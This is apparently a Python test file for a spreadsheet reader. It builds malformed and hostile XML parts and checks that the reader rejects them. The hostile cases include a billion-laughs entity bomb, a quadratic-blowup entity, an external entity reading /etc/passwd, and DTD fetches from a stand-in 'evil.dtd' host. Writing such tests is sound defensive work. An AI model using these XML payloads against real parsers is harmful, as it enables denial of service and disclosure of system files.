"""Parts whose XML is hostile, broken or unusual."""

from tests.hostile.case import COUNTED, DAMAGED, UNSAFE, Build, Case, table
from tests.reading.surgery import FIGURES, STRINGS, WORKBOOK, Form

PARTS = {
    "types": "[Content_Types].xml",
    "workbook": WORKBOOK,
    "sheet": FIGURES,
    "strings": STRINGS,
    "styles": "xl/styles.xml",
    "core": "docProps/core.xml",
    "custom": "docProps/custom.xml",
}
LAUGHS = "".join(
    f'<!ENTITY l{level + 1} "{f"&l{level};" * 10}">' if level else '<!ENTITY l1 "ha">'
    for level in range(10)
)
DOCTYPES = {
    "laughs": (24, f"<!DOCTYPE x [{LAUGHS}]>"),
    "quadratic": (25, f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>'),
    "file": (26, '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
    "remote": (26, '<!DOCTYPE x SYSTEM "http://192.0.2.1/evil.dtd">'),
    "parameter": (26, '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]>'),
}


def with_doctype(part: str, doctype: str) -> Build:
    def insert(form: Form) -> Form:
        head, end, rest = form.parts()[part].decode().partition("?>")
        return form.with_part(part, f"{head}{end}{doctype}{rest}".encode())

    return insert


def recoded(part: str, encoding: str, declared: str = "") -> Build:
    """The part in another encoding, which it declares."""

    def recode(form: Form) -> Form:
        text = form.parts()[part].decode()
        text = text.replace('encoding="UTF-8"', f'encoding="{declared or encoding}"')
        return form.with_part(part, text.encode(encoding))

    return recode


def replaced(part: str, old: bytes, new: bytes) -> Build:
    def replace(form: Form) -> Form:
        content = form.parts()[part]
        assert old in content
        return form.with_part(part, content.replace(old, new, 1))

    return replace


def shortened(part: str, by: int) -> Build:
    return lambda form: form.with_part(part, form.parts()[part][:-by])


def prefixed(form: Form) -> Form:
    """As some libraries write it: every element of the sheet with a prefix."""
    text = form.parts()[FIGURES].decode()
    text = text.replace("<", "<x:").replace("<x:/", "</x:").replace("<x:?", "<?")
    return form.with_part(FIGURES, text.replace("xmlns=", "xmlns:x=").encode())


CASES = table(
    [
        *(
            Case(f"xml-{name}-in-{where}", threat, with_doctype(part, doctype), UNSAFE)
            for name, (threat, doctype) in DOCTYPES.items()
            for where, part in PARTS.items()
        ),
        Case("xml-bad-utf8-sheet", 29, replaced(FIGURES, "Số".encode(), b"S\xff\xfe"), DAMAGED),
        Case("xml-bad-utf8-strings", 29, replaced(STRINGS, b"<t>", b"<t>\xc0\x80"), DAMAGED),
        Case("xml-utf7", 29, recoded(STRINGS, "utf-7"), DAMAGED),
        Case("xml-utf32", 29, recoded(STRINGS, "utf-32"), DAMAGED),
        Case("xml-says-utf16", 29, recoded(STRINGS, "utf-8", "UTF-16"), DAMAGED),
        Case("xml-nul-reference", 29, replaced(STRINGS, b"<t>", b"<t>&#0;"), DAMAGED),
        Case("xml-nul-byte", 29, replaced(STRINGS, b"<t>", b"<t>\x00"), DAMAGED),
        Case("xml-unknown-entity", 29, replaced(STRINGS, b"<t>", b"<t>&nbsp;"), DAMAGED),
        Case("xml-utf16-sheet", 30, recoded(FIGURES, "utf-16"), COUNTED),
        Case("xml-utf16-strings", 30, recoded(STRINGS, "utf-16"), COUNTED),
        Case("xml-bom", 30, recoded(FIGURES, "utf-8-sig", "UTF-8"), COUNTED),
        Case("xml-prefixed", 30, prefixed, COUNTED),
        *(
            Case(f"xml-cut-{where}", 31, shortened(part, 25), DAMAGED)
            for where, part in PARTS.items()
        ),
        Case("xml-no-end-tag", 31, replaced(FIGURES, b"</sheetData>", b""), DAMAGED),
        Case(
            "xml-two-roots",
            31,
            replaced(FIGURES, b"</worksheet>", b"</worksheet><worksheet/>"),
            DAMAGED,
        ),
        Case("xml-empty-part", 31, lambda form: form.with_part(FIGURES, b""), DAMAGED),
    ]
)
